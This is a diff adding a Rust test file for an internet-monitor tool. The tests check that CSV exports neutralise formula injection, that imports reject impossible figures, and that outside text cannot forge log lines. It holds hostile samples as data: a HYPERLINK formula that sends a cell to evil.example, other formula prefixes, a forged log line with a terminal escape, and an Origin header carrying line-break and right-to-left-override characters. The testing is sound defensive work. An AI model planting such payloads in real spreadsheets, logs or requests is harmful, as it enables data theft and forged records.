@@ -1,0 +1,248 @@
+//! Hostile text and figures from outside — server and ISP names, the CLI's message, imported
+//! files — never turn into spreadsheet formulas, forged log lines or impossible published
+//! figures.
+
+mod common;
+
+use common::{Env, Server};
+use serde_json::{Value, json};
+
+/// Cells a spreadsheet would run as formulas (OWASP CSV Injection).
+const FORMULAS: [&str; 6] = [
+    "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click for a faster line\")",
+    "+1+1",
+    "-1+1",
+    "@SUM(1+1)",
+    "\t=1+1",
+    "\u{FF1D}1+1",
+];
+
+fn sample(time: &str, name: &str) -> Value {
+    json!({
+        "time": time, "outcome": "success", "reason": null, "message": null, "trigger": "schedule",
+        "duration_seconds": 20.5, "download_bytes_per_second": 1e6,
+        "upload_bytes_per_second": 2e6, "ping_seconds": 0.0125, "jitter_seconds": 0.0005,
+        "packet_loss_ratio": 0.015, "download_latency_seconds": null, "upload_latency_seconds": null,
+        "downloaded_bytes": 1000, "uploaded_bytes": 500,
+        "server": {"id": 7, "name": name, "location": name, "country": "There", "host": "st.example.net"},
+        "isp": name, "result_url": null
+    })
+}
+
+fn hostile_history() -> Vec<Value> {
+    FORMULAS
+        .iter()
+        .enumerate()
+        .map(|(minute, name)| sample(&format!("2026-11-01T00:0{minute}:00.000Z"), name))
+        .collect()
+}
+
+/// Every cell of a CSV document, as a spreadsheet importing RFC 4180 reads them.
+fn cells(text: &str) -> Vec<Vec<String>> {
+    csv::ReaderBuilder::new()
+        .has_headers(false)
+        .from_reader(text.as_bytes())
+        .records()
+        .map(|record| {
+            record
+                .expect("valid CSV")
+                .iter()
+                .map(str::to_owned)
+                .collect()
+        })
+        .collect()
+}
+
+/// No cell starts like a formula; the hostile names are there, each behind a single quote.
+fn assert_neutralised(csv: &str) {
+    let rows = cells(csv);
+    assert_eq!(rows.len(), 1 + FORMULAS.len(), "{csv}");
+    let header = &rows[0];
+    let column = |name: &str| header.iter().position(|h| h == name).unwrap();
+    for row in &rows[1..] {
+        assert_eq!(row.len(), header.len());
+        for name in ["server_name", "server_location", "isp"] {
+            let cell = &row[column(name)];
+            assert!(
+                cell.starts_with('\'') && FORMULAS.contains(&&cell[1..]),
+                "{name}: {cell:?}"
+            );
+        }
+        assert_eq!(
+            row[column("download_bytes_per_second")],
+            "1000000",
+            "numbers stay numbers"
+        );
+        for cell in row {
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\u{FF1D}']),
+                "a formula: {cell:?}"
+            );
+        }
+    }
+}
+
+#[test]
+fn server_and_isp_names_cannot_become_formulas_in_either_csv() {
+    let env = Env::new();
+    env.import(&hostile_history());
+    let db = env.db();
+    let export = common::command(&["export", "--db", db.to_str().unwrap(), "--format", "csv"])
+        .output()
+        .unwrap();
+    assert_eq!(export.status.code(), Some(0));
+    assert_neutralised(&String::from_utf8(export.stdout).unwrap());
+    let server = Server::start(env.serve("ok-1.2-pretty", "replay", &["--start-delay", "1h"]));
+    let response = server.get("/api/v1/samples.csv");
+    assert_eq!(response.status, 200);
+    assert_neutralised(&response.body);
+    // The JSON history is data, not a spreadsheet: it keeps the names exactly.
+    let page = server.get("/api/v1/samples").json();
+    assert_eq!(page["samples"][0]["isp"], FORMULAS[5]);
+}
+
+/// `import FILE` on this test's database.
+fn import(env: &Env, lines: &[Value], extra: &[&str]) -> std::process::Output {
+    let file = env.path("import.jsonl");
+    let text: String = lines.iter().map(|line| format!("{line}\n")).collect();
+    std::fs::write(&file, text).unwrap();
+    let db = env.db();
+    let mut args = vec!["import", "--db", db.to_str().unwrap()];
+    args.extend(extra);
+    args.push(file.to_str().unwrap());
+    common::command(&args).output().unwrap()
+}
+
+fn exported(env: &Env) -> String {
+    let db = env.db();
+    let output = common::command(&["export", "--db", db.to_str().unwrap()])
+        .output()
+        .unwrap();
+    assert_eq!(output.status.code(), Some(0));
+    String::from_utf8(output.stdout).unwrap()
+}
+
+#[test]
+fn import_refuses_impossible_figures_with_the_line_and_stores_nothing() {
+    let env = Env::new();
+    let good = sample("2026-11-01T00:00:00.000Z", "Example ISP");
+    let with = |field: &str, value: Value| {
+        let mut bad = sample("2026-11-01T00:30:00.000Z", "Example ISP");
+        bad[field] = value;
+        bad
+    };
+    for (bad, message) in [
+        (
+            with("download_bytes_per_second", json!(-1_000_000.0)),
+            "download -1000000 B/s is negative",
+        ),
+        (
+            with("upload_bytes_per_second", json!(1e308)),
+            "upload 1e308 B/s is above 12500000000 B/s (--max-bandwidth)",
+        ),
+        (
+            with("ping_seconds", json!(-500.0)),
+            "ping -500 s is negative",
+        ),
+        (
+            with("packet_loss_ratio", json!(7.0)),
+            "packet loss ratio 7 is above 1",
+        ),
+        (
+            with("jitter_seconds", json!(3600.0)),
+            "jitter 3600 s is above 60 s",
+        ),
+        (
+            {
+                let mut bad = with("download_bytes_per_second", Value::Null);
+                bad["upload_bytes_per_second"] = Value::Null;
+                bad
+            },
+            "a success without a download or upload figure",
+        ),
+    ] {
+        let output = import(&env, &[good.clone(), bad], &[]);
+        let stderr = String::from_utf8_lossy(&output.stderr);
+        assert_eq!(output.status.code(), Some(1), "{stderr}");
+        assert_eq!(
+            stderr.trim_end(),
+            format!(
+                "internet-monitor: error: nothing was imported: {} line 2: implausible sample: {message}",
+                env.path("import.jsonl").display()
+            )
+        );
+        assert_eq!(exported(&env), "", "nothing from the file is stored");
+    }
+    // The ceiling is --max-bandwidth's, as for a test's result.
+    let fast = with("download_bytes_per_second", json!(25e9));
+    assert_eq!(
+        import(&env, std::slice::from_ref(&fast), &[]).status.code(),
+        Some(1)
+    );
+    let output = import(&env, &[fast], &["--max-bandwidth", "1Tbit/s"]);
+    assert_eq!(output.status.code(), Some(0), "{output:?}");
+    assert_eq!(exported(&env).lines().count(), 1);
+}
+
+/// A CLI error whose message holds a line break followed by a genuine-looking log line, and
+/// a terminal escape sequence.
+const FORGED: &str = "Cannot open socket\n2026-11-30T04:00:00.000000Z  INFO internet_monitor::state: \
+test succeeded time=2026-11-30T04:00:00.000Z trigger=schedule download_mbit_per_second=1000\u{1b}[2K";
+
+/// Characters that end a line or steer a terminal, in some viewer or other.
+const LINE_ENDS: [char; 7] = [
+    '\r', '\u{1b}', '\u{85}', '\u{2028}', '\u{2029}', '\u{202e}', '\u{7}',
+];
+
+#[test]
+fn text_from_outside_cannot_forge_a_log_line() {
+    let env = Env::new();
+    let fixture = env.path("forged");
+    let error = json!({"type": "log", "level": "error", "message": FORGED});
+    std::fs::write(fixture.with_extension("stdout"), format!("{error}\n")).unwrap();
+    std::fs::write(fixture.with_extension("stderr"), "").unwrap();
+    std::fs::write(fixture.with_extension("rc"), "2\n").unwrap();
+    // The database's path is logged too, and a file name may hold any byte but / and NUL.
+    let db = env.path(&format!("samples{FORGED}.redb"));
+    let mut command = common::serve_command(&db, "ok-1.2-pretty", &[]);
+    command.env("FAKE_SPEEDTEST_FIXTURE", &fixture);
+    let mut server = Server::start(command);
+    let listening = server.wait_for_log("listening on");
+    assert!(
+        listening.contains("samplesCannot open socket\\n2026"),
+        "{listening}"
+    );
+    let failed = server.wait_for_log("test failed");
+    assert!(failed.contains("detail=\"Cannot open socket"), "{failed}");
+    // A request header is text from outside too: bytes a header may carry (obs-text) decode
+    // to the next-line, line-separator and right-to-left-override characters.
+    let origin = "http://evil.example\u{85}2026-11-30T04:00:00.000000Z  INFO \
+internet_monitor::state: test succeeded\u{2028}x\u{202e}";
+    let response = common::try_request_with(
+        &server.address,
+        "POST",
+        "/api/v1/run",
+        &[("Origin", origin), ("Content-Type", "application/json")],
+    )
+    .unwrap();
+    assert_eq!(response.status, 403, "{}", response.body);
+    let refused = server.wait_for_log("refused a request");
+    assert!(refused.contains("evil.example\\u{85}2026"), "{refused}");
+    let log = server.assert_clean_exit();
+    // Every line starts where the logger started it: none at the forged time stamp, and no
+    // part of a value (the rest of the path, of the message) begins a line of its own.
+    let forged: Vec<&String> = log
+        .iter()
+        .filter(|line| {
+            line.starts_with("2026-11-30T04:00:00")
+                || !line.starts_with(|c: char| c.is_ascii_digit())
+        })
+        .collect();
+    assert!(forged.is_empty(), "a forged line: {forged:#?}");
+    for line in &log {
+        assert!(
+            !line.contains(LINE_ENDS),
+            "a raw control character: {line:?}"
+        );
+    }
+}
